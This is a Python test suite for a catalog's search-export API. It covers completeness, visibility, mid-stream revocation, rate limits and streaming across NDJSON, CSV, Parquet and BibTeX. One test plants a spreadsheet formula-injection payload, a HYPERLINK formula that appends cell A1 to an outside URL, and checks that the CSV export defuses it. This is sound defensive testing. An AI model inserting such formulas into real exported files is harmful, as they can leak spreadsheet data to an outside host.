"""Everything that a search finds, in one answer: nothing twice, nothing missing, nothing that may not be seen."""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from typing import Any
from uuid import uuid4

import httpx2
import polars as pl
import pytest
import sqlalchemy as sa

from catalog.access import principals
from catalog.access.audience import Role
from catalog.api import exports
from catalog.engines import Engines
from catalog.errors import TooManyRequests
from catalog.exchange import columns, parquet, spreadsheet
from tests.api import people as persons
from tests.api.conftest import BECAUSE, MERGE_PATCH, plain, read, register
from tests.api.people import People
from tests.api.streams import Reading, serving
from tests.conftest import Clients, Live, eventually

pytestmark = pytest.mark.usefixtures("noise")

# More than one step of an export, and more than one of those that are made small here.
STEPS = 160
MANY = 35


@pytest.fixture
def word() -> str:
    """A word that stands in no other test's objects; of letters alone, so that no part of it is a word."""
    return "okapi" + uuid4().hex[:10].translate(str.maketrans("0123456789", "ghijklmnop"))


@pytest.fixture
def small_steps(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let an export of this process write ten objects at a time."""
    monkeypatch.setattr(exports, "IDS_FIRST", 10)
    monkeypatch.setattr(exports, "OBJECTS_AT_ONCE", 10)
    monkeypatch.setattr(parquet, "GROUP_ROWS", 10)


async def export(client: httpx2.AsyncClient, **question: Any) -> httpx2.Response:
    answer = await client.get("/api/search/export", params=question)
    assert answer.status_code == 200, answer.text
    return answer


def ids_in(text: bytes | str) -> list[str]:
    return [json.loads(line)["id"] for line in text.splitlines()]


async def load(client: httpx2.AsyncClient, word: str, count: int, **said: Any) -> list[str]:
    """Register objects, and return their ids when a search finds all of them."""
    common = {"project": f"api/p{uuid4().hex[:12]}", "visibility": "public"}
    rows = [plain(**common | {"title": f"{word} {number}"} | said) for number in range(count)]
    content = "\n".join(map(json.dumps, rows)).encode()
    answer = await client.post("/api/bulk/objects", content=content, headers={"Content-Type": "application/x-ndjson"})
    ids = [json.loads(line)["id"] for line in answer.text.splitlines()]

    async def found() -> bool:
        searched = await client.get("/api/search", params={"q": word, "limit": 1})
        return bool(searched.json()["total"] == count)

    assert await eventually(found)
    assert len(set(ids)) == count
    return ids


async def test_an_export_has_everything_that_a_search_finds_as_it_is_read(clients: Clients, word: str) -> None:
    ids = await load(clients.ingest, word, STEPS)
    await load(clients.ingest, f"other{word}", 2)

    answer = await export(clients.anonymous, q=word)

    told = {one["id"]: one for one in map(json.loads, answer.text.splitlines())}
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert answer.headers["cache-control"] == "no-store"
    assert ids_in(answer.text) == sorted(ids)
    assert told[ids[0]] == await read(clients.anonymous, ids[0])
    by_body = await clients.anonymous.post("/api/search/export", json={"q": word, "as": "ndjson"})
    assert ids_in(by_body.text) == sorted(ids)


async def test_an_export_takes_half_a_word_as_a_search_does_where_it_is_told_to(clients: Clients, word: str) -> None:
    ids = await load(clients.ingest, word, 60)
    half = word[:13]

    whole = await export(clients.anonymous, q=half, similar="true")
    rest = await export(clients.anonymous, q=half, similar="true", after=sorted(ids)[49])
    exact = await export(clients.anonymous, q=half)

    assert (ids_in(whole.text), ids_in(rest.text)) == (sorted(ids), sorted(ids)[50:])
    assert (exact.text, exact.status_code) == ("", 200)


async def test_an_export_goes_on_after_the_last_that_came(clients: Clients, word: str) -> None:
    ids = sorted(await load(clients.ingest, word, STEPS))
    answers = [await export(clients.anonymous, q=word, after=after) for after in (ids[0], ids[99], ids[-1])]
    assert [ids_in(answer.text) for answer in answers] == [ids[1:], ids[100:], []]


async def test_a_table_has_the_documented_columns_and_nothing_that_a_spreadsheet_computes(
    clients: Clients, word: str
) -> None:
    formula = '=HYPERLINK("https://example.org?"&A1,"' + word + '")'
    said = {"title": formula, "description": "-2+3\nand, more", "keywords": ["@sum", "plain"], "licence": "MIT"}
    (object_id,) = await load(clients.ingest, word, 1, **said)
    found = await read(clients.anonymous, object_id)

    answer = await export(clients.anonymous, q=word, **{"as": "csv"})

    head, row = csv.reader(io.StringIO(answer.text, newline=""))
    assert head == list(columns.COLUMNS)
    told = dict(zip(head, row, strict=True))
    address = told.pop("address")
    assert address.endswith(f"/objects/{object_id}")
    assert told == {
        "id": object_id,
        "kind": "training-dataset",
        "project": found["project"],
        "name": "",
        "title": f"'{formula}",
        "description": "'-2+3\nand, more",
        "creators": "Rivera, Ana",
        "keywords": "'@sum; plain",
        "subjects": "",
        "licence": "MIT",
        "year": "",
        "visibility": "public",
        "state": "draft",
        "version": "",
        "revision": "1",
        "files": "0",
        "created_at": told["created_at"],
        "updated_at": told["updated_at"],
        "doi": "",
    }
    assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="catalog-export.csv"'


async def test_a_typed_table_has_the_same_rows_with_the_whole_record_of_each(clients: Clients, word: str) -> None:
    """Read by another implementation than the one that writes."""
    said = {
        "title": f"={word}",
        "keywords": ["@sum", "semi; colon"],
        "dates": [{"type": "Issued", "date": "2021-05-01"}],
    }
    ids = await load(clients.ingest, word, STEPS, **said)
    (more,) = await load(clients.ingest, f"more{word}", 1, title=f"{word} more{word}", keywords=[], licence="MIT")
    ids.append(more)

    answer = await export(clients.anonymous, q=word, **{"as": "parquet"})
    lines = [json.loads(line) for line in (await export(clients.anonymous, q=word)).text.splitlines()]
    rest = await export(clients.anonymous, q=word, after=sorted(ids)[149], **{"as": "parquet"})

    assert answer.headers["content-type"] == "application/vnd.apache.parquet"
    assert answer.headers["content-disposition"] == 'attachment; filename="catalog-export.parquet"'
    frame = pl.read_parquet(io.BytesIO(answer.content))
    assert dict(frame.schema) == SCHEMA
    told = frame.to_dicts()
    assert [json.loads(row.pop("record")) for row in told] == lines
    assert [one["id"] for one in lines] == sorted(ids)
    assert told == [row_of(one, address=row["address"]) for one, row in zip(lines, told, strict=True)]
    assert {row["address"].rpartition("/objects/")[2] for row in told} == set(ids)
    assert pl.read_parquet(io.BytesIO(rest.content))["id"].to_list() == sorted(ids)[150:]


SCHEMA = {
    **dict.fromkeys(("id", "kind", "project", "name", "title", "description"), pl.String()),
    **dict.fromkeys(("creators", "keywords", "subjects"), pl.List(pl.String())),
    "licence": pl.String(),
    "year": pl.Int64(),
    **dict.fromkeys(("visibility", "state"), pl.String()),
    **dict.fromkeys(("version", "revision", "files"), pl.Int64()),
    **dict.fromkeys(("created_at", "updated_at"), pl.Datetime("us", "UTC")),
    **dict.fromkeys(("doi", "address", "record"), pl.String()),
}


def row_of(told: dict[str, Any], *, address: str) -> dict[str, Any]:
    """The row of an object without a DOI, as a line of NDJSON has it."""
    same = ("id", "kind", "project", "name", "title", "description", "licence", "visibility", "state", "version")
    return {
        **{name: told[name] for name in same},
        "creators": [one["name"] for one in told["creators"]],
        "keywords": told["keywords"],
        "subjects": [told["terms"][uri] for uri in told["subjects"]],
        "year": 2021 if told["dates"] else None,
        "revision": told["revision"],
        "files": told["files_total"],
        **{name: datetime.fromisoformat(told[name]) for name in ("created_at", "updated_at")},
        "doi": None,
        "address": address,
    }


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠"])
def test_what_would_be_a_formula_is_a_text_in_a_cell(begins: str) -> None:
    assert spreadsheet.harmless(f"{begins}1") == f"'{begins}1"


@pytest.mark.parametrize("text", ["", " ", "1-2", "a=b", "2024-05-01", "https://example.org/=1"])
def test_any_other_text_stands_in_a_cell_as_it_is(text: str) -> None:
    assert spreadsheet.harmless(text) == text


async def test_references_have_a_key_each_however_alike_the_works_are(clients: Clients, word: str) -> None:
    ids = await load(clients.ingest, word, 3, title=f"{word} and more")

    answer = await export(clients.anonymous, q=word, **{"as": "bibtex"})

    keys = [line.partition("{")[2].rstrip(",") for line in answer.text.splitlines() if line.startswith("@misc{")]
    assert sorted(key.rpartition("-")[2] for key in keys) == sorted(one.rpartition("-")[2] for one in ids)
    assert answer.text.count(f"{{{word} and more}}") == 3
    assert answer.headers["content-type"].startswith("application/x-bibtex")


async def test_private_objects_are_in_the_exports_of_those_alone_who_see_them(clients: Clients, word: str) -> None:
    await load(clients.ingest, word, 2, visibility="private")
    told = {
        (name, form): len((await export(getattr(clients, name), q=word, **{"as": form})).text.splitlines())
        for name in ("anonymous", "reader", "other", "ingest", "admin")
        for form in ("ndjson", "csv")
    }
    few, all_ = ("anonymous", "reader", "other"), ("ingest", "admin")
    assert told == {
        **{(name, "ndjson"): 0 for name in few},
        **{(name, "csv"): 1 for name in few},
        **{(name, "ndjson"): 2 for name in all_},
        **{(name, "csv"): 3 for name in all_},
    }


def ids_in_table(content: bytes) -> list[str]:
    return pl.read_parquet(io.BytesIO(content))["id"].to_list()


READ: dict[str, Callable[[bytes], list[str]]] = {"ndjson": ids_in, "parquet": ids_in_table}


@pytest.mark.parametrize("form", READ)
@pytest.mark.usefixtures("small_steps")
async def test_what_is_revoked_on_the_way_is_left_out_from_then_on(
    live: Live, people: People, word: str, form: str
) -> None:
    """The index still has the old rights, or might; the database decides, for every step anew."""
    owner = await people.member("owner", "ingest")
    ids = await load(owner, word, MANY, project=people.project, visibility="private")
    friend = await people.person("friend")
    for one in ids:
        grant = {"to": f"user:{people.names['friend']}", "permission": "READ"}
        answer = await owner.post(f"/api/objects/{one}/grants", json=grant)
        assert answer.status_code == 201, answer.text

    async def shared() -> bool:
        return len(await persons.found(friend, q=word)) == MANY

    assert await eventually(shared)
    async with serving(live.settings) as (app, _):
        token = friend.headers["authorization"].removeprefix("Bearer ")
        reading = Reading(app, {"q": word, "as": form}, token)
        assert await reading.begin() == 200
        begun = b"".join([await reading.piece() or b"" for _ in range(2)])
        await eventually(reading.next_has_come)
        withheld = sorted(ids)[20:]
        for one in withheld:
            (held,) = (await owner.get(f"/api/objects/{one}/grants")).json()["items"]
            assert (await owner.delete(f"/api/objects/{one}/grants/{held['id']}")).status_code == 204
        whole = begun + await reading.rest()

    # One piece had been read from the database already when the grants were revoked.
    assert READ[form](whole) == sorted(ids)[:30]


@pytest.mark.parametrize("form", ["ndjson", "parquet"])
@pytest.mark.usefixtures("small_steps")
async def test_a_token_that_is_revoked_on_the_way_breaks_the_export_off(
    live: Live, clients: Clients, engines: Engines, word: str, form: str
) -> None:
    ids = await load(clients.ingest, word, MANY)
    async with engines.database.transaction() as session:
        caller, token = await principals.create_token(session, name=f"p{word}", role=Role.READER)
    told = bytearray()

    async def read_all(reading: Reading) -> None:
        assert await reading.begin() == 200
        while piece := await reading.piece():
            told.extend(piece)
            async with engines.database.transaction() as session:
                revoked = sa.text("UPDATE token SET revoked_at = now() WHERE principal_id = :id")
                await session.execute(revoked, {"id": caller.id})

    async with serving(live.settings) as (app, _):
        with pytest.raises(AssertionError, match="broken off"):
            await read_all(Reading(app, {"q": word, "as": form}, token))
    if form == "ndjson":
        assert 0 < len(ids_in(bytes(told))) < len(ids)
    else:
        # Its end is missing, which tells how to read it.
        assert (told[:4], told[-4:] == b"PAR1") == (b"PAR1", False)
        with pytest.raises(pl.exceptions.ComputeError):
            ids_in_table(bytes(told))


@pytest.mark.usefixtures("small_steps")
async def test_each_object_comes_once_while_others_are_written_and_it_is_changed_itself(
    live: Live, clients: Clients, engines: Engines, word: str
) -> None:
    ids = sorted(await load(clients.ingest, word, MANY))
    withdrawn = ids.pop()
    # Without documents of their own to begin with: what is registered on the way may come or not, and never twice.
    fresh: list[str] = []

    async def write() -> None:
        fresh.append((await register(clients.ingest, plain("api/other", title=word, visibility="public")))["id"])
        for one in (ids[3], ids[-3]):
            change = {"title": f"{word} {uuid4().hex}"}
            answer = await clients.ingest.patch(
                f"/api/objects/{one}", json=change, headers={"if-match": "*", "content-type": MERGE_PATCH}
            )
            assert answer.status_code == 200, answer.text
        await clients.ingest.delete(f"/api/objects/{withdrawn}", params=BECAUSE, headers={"if-match": "*"})
        await engines.index.refresh()

    async with serving(live.settings) as (app, _):
        reading = Reading(app, {"q": word}, None)
        assert await reading.begin() == 200
        told = ids_in(await reading.rest(write))

    assert len(fresh) >= 2
    assert len(told) == len(set(told))
    assert [one for one in told if one not in fresh] == ids


@pytest.mark.usefixtures("small_steps")
async def test_who_begins_more_exports_than_there_are_places_is_told_the_figure_and_hinders_nobody(
    live: Live, clients: Clients, word: str
) -> None:
    await load(clients.ingest, word, MANY)
    async with serving(live.settings) as (app, inner):
        token = live.tokens["reader"]
        held = [Reading(app, {"q": word}, token) for _ in range(exports.AT_ONCE_PER_CALLER)]
        assert [await one.begin() for one in held] == [200] * len(held)
        refused: list[int] = []
        for _ in range(12):
            more = Reading(app, {"q": word}, token)
            refused.append(await more.begin())
            problem = json.loads(await more.rest())
        other = Reading(app, {"q": word}, live.tokens["curator"])
        assert await other.begin() == 200
        assert len(ids_in(await other.rest())) == MANY

        assert refused == [429] * 12
        assert problem["detail"] == "You have 3 exports under way here, and may have 3: let one end first."
        assert more.headers["retry-after"] == "10"
        # Two hang up in the middle, one reads to the end: all three places are free again.
        await held[0].hang_up()
        await held[1].piece()
        await held[1].hang_up()
        assert len(ids_in(await held[2].rest())) == MANY
        assert len(inner.state.exports) == 0


def test_a_thousand_exports_of_one_caller_take_no_more_than_its_places() -> None:
    under_way = exports.Exports()

    def begun(caller: str, *, known: bool = True) -> bool:
        try:
            under_way.begin(caller, known=known)
        except TooManyRequests:
            return False
        return True

    assert sum(begun("one") for _ in range(1_000)) == exports.AT_ONCE_PER_CALLER
    assert sum(begun(f"caller {number}") for number in range(1_000)) == exports.AT_ONCE - exports.AT_ONCE_PER_CALLER
    under_way.end("one", known=True)
    assert (len(under_way), begun("one"), begun("one")) == (exports.AT_ONCE - 1, True, False)


def test_callers_without_an_account_leave_places_to_those_with_one() -> None:
    under_way = exports.Exports()
    for number in range(exports.AT_ONCE_WITHOUT_ACCOUNT):
        under_way.begin(f"192.0.2.{number}", known=False)
    with pytest.raises(TooManyRequests, match="10 exports of callers without a token"):
        under_way.begin("192.0.2.99", known=False)
    for number in range(exports.AT_ONCE - exports.AT_ONCE_WITHOUT_ACCOUNT):
        under_way.begin(number, known=True)
    under_way.end(0, known=True)
    # What accounts do not use stays theirs.
    with pytest.raises(TooManyRequests):
        under_way.begin("192.0.2.99", known=False)
    under_way.end("192.0.2.1", known=False)
    under_way.begin("192.0.2.99", known=False)


@pytest.mark.usefixtures("small_steps")
async def test_an_export_that_nobody_reads_is_broken_off_and_its_place_is_free(
    live: Live, clients: Clients, word: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    await load(clients.ingest, word, MANY)
    monkeypatch.setattr(exports, "PIECE_SECONDS_MAX", 5.0)
    async with serving(live.settings) as (app, inner):
        held = [Reading(app, {"q": word}, live.tokens["reader"]) for _ in range(exports.AT_ONCE_PER_CALLER)]
        assert [await one.begin() for one in held] == [200] * len(held)
        assert len(inner.state.exports) == exports.AT_ONCE_PER_CALLER

        async def freed() -> bool:
            return len(inner.state.exports) == 0

        assert await eventually(freed)
        for one in held:
            with pytest.raises(AssertionError, match="broken off"):
                await one.rest()


async def test_long_records_come_in_steps_of_few_and_pieces_of_limited_size(
    live: Live, clients: Clients, word: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = await load(clients.ingest, word, 8, description="Soil. " * 1_000)
    monkeypatch.setattr(exports, "RECORD_BYTES_AT_ONCE", 20_000)
    monkeypatch.setattr(exports, "PIECE_BYTES_MAX", 4_000)
    asked: list[int] = []
    whole = exports.FORMS["ndjson"].hand

    def counted() -> exports.Hand:
        hand = whole()

        async def step(request: Any, caller: Any, few: Any) -> Any:
            asked.append(len(few))
            async for piece in hand.step(request, caller, few):
                yield piece

        return replace(hand, step=step)

    forms = dict(exports.FORMS) | {"ndjson": replace(exports.FORMS["ndjson"], hand=counted)}
    monkeypatch.setattr(exports, "FORMS", forms)
    async with serving(live.settings) as (app, _):
        reading = Reading(app, {"q": word}, None)
        assert await reading.begin() == 200
        pieces = []
        while (piece := await reading.piece()) is not None:
            pieces.append(piece)

    assert ids_in(b"".join(pieces)) == sorted(ids)
    assert (sum(asked), max(asked), max(map(len, pieces))) == (8, 3, 4_000)


async def test_a_faulty_question_is_refused_before_anything_is_written(clients: Clients) -> None:
    answers = [
        await clients.anonymous.get("/api/search/export", params=asked)
        for asked in ({"q": '"open'}, {"as": "xlsx"}, {"after": "7"}, {"sort": "title"}, {"filter": "nothing = 1"})
    ]
    assert [answer.status_code for answer in answers] == [400] * 5
    assert [[fault["pointer"] for fault in answer.json()["errors"]] for answer in answers] == [
        ["/q"],
        ["/as"],
        ["/after"],
        ["/sort"],
        ["/filter"],
    ]


async def test_the_head_of_an_export_is_told_without_walking_anything(clients: Clients, word: str) -> None:
    await load(clients.ingest, word, 1)
    answer = await clients.anonymous.head("/api/search/export", params={"q": word, "as": "csv"})
    assert (answer.status_code, answer.content) == (200, b"")
    assert answer.headers["content-type"].startswith("text/csv")
